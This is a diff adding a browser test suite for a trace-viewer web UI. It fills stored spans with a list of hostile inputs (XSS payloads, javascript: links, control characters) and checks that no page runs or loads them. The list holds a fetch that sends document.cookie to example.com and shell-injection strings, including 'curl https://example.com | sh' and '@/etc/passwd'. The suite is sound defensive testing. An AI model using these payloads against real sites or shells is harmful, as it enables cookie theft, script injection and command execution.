@@ -1,0 +1,212 @@
+import { execFileSync } from 'node:child_process';
+import type { Page } from 'playwright-core';
+import { describeInBrowser } from './support/describe-in-browser.js';
+import { copied } from './support/open-span.js';
+import type { SentSpan } from './support/shop-traces.js';
+import { storeSpans } from './support/store-spans.js';
+
+/** What each template carries: a script that would change the page, or an address that would be loaded. */
+const scripts = [
+  'document.documentElement.dataset.ran=1',
+  'window.ran=1',
+  "fetch('https://example.com/'+document.cookie)",
+  "location='https://example.com'",
+  'alert(1)',
+];
+const templates: readonly ((script: string) => string)[] = [
+  (script) => `<script>${script}</script>`,
+  (script) => `<img src=x onerror="${script}">`,
+  (script) => `<svg onload="${script}"><circle r="4"/></svg>`,
+  (script) => `<svg><script>${script}</script></svg>`,
+  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
+  (script) => `<a href="javascript:${script}">click</a>`,
+  (script) => `<body onload="${script}">`,
+  (script) => `<details open ontoggle="${script}"><summary>s</summary></details>`,
+  (script) => `<input autofocus onfocus="${script}">`,
+  (script) => `<style>@import url(https://example.com/${script.length}.css)</style>`,
+  (script) => `<link rel=stylesheet href=https://example.com/${script.length}.css>`,
+  (script) => `<base href="https://example.com/"><p>${script}</p>`,
+  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
+  (script) => `<video src="https://example.com/v.mp4" onerror="${script}"></video>`,
+  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
+  (script) => `![image](https://example.com/${script.length}.png)`,
+  (script) => `![image](data:image/svg+xml,<svg onload="${script}"/>)`,
+  (script) => `[link](javascript:${script})`,
+  (script) => `[link](  jAvAsCrIpT:${script} "title")`,
+  (script) => `[link](java\u0000script:${script})`,
+  (script) => `[link](data:text/html;base64,PHNjcmlwdD4=) ${script}`,
+  (script) => `[link](vbscript:${script})`,
+  (script) => `<javascript:${script}>`,
+  (script) => `[reference][1]\n\n[1]: javascript:${script}`,
+  (script) => `\`\`\`html\n<script>${script}</script>\n\`\`\``,
+  (script) => `\`\`\`${script}"><script>\ncode\n\`\`\``,
+  (script) => `| a |\n|---|\n| <img src=x onerror="${script}"> |`,
+  (script) => `{"html":"<script>${script}</script>","__proto__":{"ran":1}}`,
+  (script) => `{{constructor.constructor('${script}')()}} \${${script}}`,
+  (script) => `'"><script>${script}</script>`,
+  (script) => `</textarea></title></style><script>${script}</script>`,
+  (script) => `<math><mtext><style><img src=x onerror="${script}"></style></mtext></math>`,
+  (script) => `before \u202E${script}\u202C after`,
+  (script) => `\u2066${script}\u2069 \u200F\u061C`,
+  (script) => `\u0000\u0007\u001B[31m${script}\u001B]0;title\u0007`,
+  (script) => `'; touch /tmp/owned; ${script}; '`,
+  (script) => `$(touch owned) \`touch owned\` ${script}`,
+  (script) => `"; curl https://example.com | sh; "${script}`,
+  (script) => `\\'; touch owned #${script}`,
+  (script) => `-o /etc/passwd @/etc/passwd ${script}`,
+];
+const roles = ['user', 'tool', '<b>system</b>'];
+const contents = templates.flatMap((template) => scripts.map(template));
+/** Every text once as a message, an attribute and a name: 600 contents. */
+const SPANS = 10;
+const traceId = 'bad0'.repeat(8);
+const startMs = Date.now() - 60_000;
+
+const spans: readonly SentSpan[] = Array.from({ length: SPANS }, (_, number) => {
+  const own = contents.filter((_content, at) => at % SPANS === number);
+  const [first = ''] = own;
+  return {
+    trace_id: traceId,
+    span_id: `bad${number}`.padEnd(16, '0'),
+    span_name: first,
+    start_time: new Date(startMs + number).toISOString(),
+    end_time: new Date(startMs + number + 1).toISOString(),
+    status_code: 'STATUS_CODE_ERROR',
+    status_message: own.at(-1) ?? '',
+    attributes: {
+      'ag.type.span': 'chat',
+      'ag.meta.request.model': first,
+      'ag.session.id': first,
+      'ag.data': {
+        inputs: {
+          prompt: own.map((content, at) => ({
+            role: roles[at % roles.length],
+            name: content,
+            content,
+          })),
+          tools: own.map((name) => ({ type: 'function', function: { name } })),
+        },
+        outputs: {
+          completion: own.map((content) => ({
+            role: 'assistant',
+            thinking: content,
+            tool_calls: [{ id: content, function: { name: content, arguments: content } }],
+            content: [
+              { type: 'text', text: content },
+              { type: 'image_url', image_url: { url: content } },
+              { type: 'image_url', image_url: { url: 'https://example.com/pixel.png' } },
+              {
+                type: 'image_url',
+                image_url: {
+                  url: `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${content}"><script>${content}</script></svg>`).toString('base64')}`,
+                },
+              },
+            ],
+            finish_reason: content,
+          })),
+        },
+      },
+      hostile: Object.fromEntries(own.map((content, at) => [`key ${at} ${content}`, content])),
+    },
+    events: own.map((content) => ({
+      name: content,
+      timestamp: new Date(startMs + number).toISOString(),
+      attributes: { 'exception.stacktrace': content, [content]: content },
+    })),
+    links: [{ trace_id: traceId, span_id: 'bad0'.padEnd(16, '0'), attributes: { why: first } }],
+    references: [{ slug: 'app', attributes: { [`a ${first}`]: first } }],
+    resource: { attributes: { 'service.name': first, [first]: first } },
+  };
+});
+
+describeInBrowser('hostile contents', (running) => {
+  beforeAll(() => storeSpans(running.spanhouse.url, spans));
+
+  const open = async (search: string) => {
+    const { spanhouse, visitor } = running;
+    const page = await visitor.open(`${spanhouse.url}/ui/traces/${traceId}?${search}`);
+    await page.getByRole('region', { name: 'Span' }).getByRole('heading', { level: 2 }).waitFor();
+    return page;
+  };
+
+  // The page of a test also fails on a report of the policy, an error, and a request to another origin.
+  const findHarm = (page: Page) =>
+    page.evaluate(() => [
+      ...('ran' in window || document.documentElement.dataset['ran'] ? ['a script ran'] : []),
+      ...[
+        ...document.querySelectorAll(
+          'main script, main iframe, main object, main style, main base, main link, main video, main [onload], main [onerror], a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i], img:not([src^="blob:"])',
+        ),
+      ].map(({ outerHTML }) => outerHTML),
+      ...[...document.querySelectorAll('[aria-label=Span], [aria-label=Conversation]')]
+        .flatMap(
+          ({ textContent }) =>
+            textContent?.match(/(?![\t\n\r])\p{Cc}|[\u202A-\u202E\u2066-\u2069]/gu) ?? [],
+        )
+        .map((character) => `the control character ${character.codePointAt(0)}`),
+    ]);
+
+  it('has more than 500 texts', () => {
+    expect(new Set(contents).size).toBe(contents.length);
+    expect(contents.length * 3).toBeGreaterThan(500);
+  });
+
+  it('run nothing and load nothing in a conversation', async () => {
+    const page = await open('tab=conversation');
+    await page.getByText(`call ${SPANS} of ${SPANS}`).waitFor();
+    for (const summary of await page.locator('article summary').all()) {
+      await summary.evaluate((element) => element.parentElement?.setAttribute('open', ''));
+    }
+
+    expect(await findHarm(page)).toEqual([]);
+  });
+
+  it.each([
+    'overview',
+    'messages',
+    'attributes',
+    'attributes&form=tree',
+    'events',
+    'links',
+    'references',
+    'raw',
+    'raw&form=text',
+  ])('run nothing and load nothing in the part %s', async (part) => {
+    for (const number of [0, 3]) {
+      const page = await open(`s=${spans[number]?.span_id}&part=${part}`);
+      await page.waitForLoadState('networkidle');
+
+      expect(await findHarm(page)).toEqual([]);
+    }
+  });
+
+  it.each(['waterfall', 'flame', 'steps', 'log', 'table'])(
+    'run nothing and load nothing in the view %s',
+    async (tab) => {
+      const page = await open(`tab=${tab}`);
+      await page.waitForLoadState('networkidle');
+
+      expect(await findHarm(page)).toEqual([]);
+    },
+  );
+
+  it('run nothing and load nothing in lists, and in the commands that they copy', async () => {
+    const { spanhouse, visitor } = running;
+    for (const list of ['spans', 'traces']) {
+      const page = await visitor.open(`${spanhouse.url}/ui/${list}?w=all`);
+      await page.getByRole('grid').getByRole('row').nth(1).waitFor();
+      expect(await findHarm(page)).toEqual([]);
+    }
+
+    const q = JSON.stringify(`'; touch owned; $(touch owned) \`touch owned\``);
+    const page = await visitor.open(
+      `${spanhouse.url}/ui/spans?w=all&q=${encodeURIComponent(`name:${q}`)}`,
+    );
+    await page.getByText('More', { exact: true }).click();
+    await page.getByRole('button', { name: /^Copy as curl/ }).click();
+    await page.getByRole('button', { name: 'Copied' }).waitFor();
+    const script = `curl() { printf '%s' "$#"; }; touch() { printf owned; };\n${await copied(page)}`;
+    const output = execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' });
+    expect(output).toMatch(/^\d+$/);
+  });
+});
